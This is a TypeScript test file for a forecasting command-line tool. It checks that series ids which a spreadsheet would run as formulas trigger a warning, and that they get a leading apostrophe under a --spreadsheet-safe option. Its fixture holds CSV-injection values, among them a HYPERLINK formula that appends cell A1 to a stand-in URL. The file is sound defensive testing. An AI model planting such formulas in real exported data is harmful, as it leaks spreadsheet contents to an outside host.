import { readFile } from 'node:fs/promises';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { streamForecast } from '#lib/cli/stream-forecast';
import { files, OPTIONS, rows } from './stream-forecast-fixture.ts';

/** Three series: one plain, two a spreadsheet would run as formulas. */
const TEXT = [
  'series_id,ds,y',
  ...rows('a1', 120, 0),
  ...rows('"=HYPERLINK(""http://x/?""&A1,""a"")"', 120, 1),
  ...rows('@SUM(1+1)', 120, 2),
  '',
].join('\n');

/**
 * The command on TEXT: the output's ids, as a CSV reader reads them, the
 * warnings, and the input's path.
 */
async function forecastText(workers: number, spreadsheetSafe?: boolean) {
  const { input, output } = await files(TEXT);
  const warnings: string[] = [];
  await streamForecast({
    ...OPTIONS,
    input,
    output,
    workers,
    ...(spreadsheetSafe === undefined ? {} : { spreadsheetSafe }),
    warn: (w) => warnings.push(w),
  });
  const records: string[][] = parse(await readFile(output, 'utf8'));
  const ids = [...new Set(records.slice(1).map((r) => r[0]!))];
  return { ids, warnings, input };
}

describe('streamForecast and ids a spreadsheet runs as formulas', () => {
  it.each([1, 2])(
    'writes them as read, and says so, naming the option (%i worker(s))',
    async (workers) => {
      // Act
      const { ids, warnings, input } = await forecastText(workers);

      // Assess: the ids join with the input's; it said nothing before
      expect(ids).toEqual([
        'a1',
        '=HYPERLINK("http://x/?"&A1,"a")',
        '@SUM(1+1)',
      ]);
      expect(warnings).toEqual([
        `${input}: 2 series ids start with =, +, -, @, a tab or a ` +
          `carriage return ('=HYPERLINK("http://x/?"&A1,"a")' first), ` +
          'which a spreadsheet opening the output runs as a formula: ' +
          "written as read; give --spreadsheet-safe to write them with a leading '",
      ]);
    },
  );

  it("writes them with a leading ' under --spreadsheet-safe (OWASP)", async () => {
    // Act
    const { ids, warnings } = await forecastText(1, true);

    // Assess
    expect(ids).toEqual([
      'a1',
      `'=HYPERLINK("http://x/?"&A1,"a")`,
      "'@SUM(1+1)",
    ]);
    expect(warnings[0]).toMatch(
      /written with a leading ' \(--spreadsheet-safe\), which a program joining on series_id must drop$/,
    );
  });
});
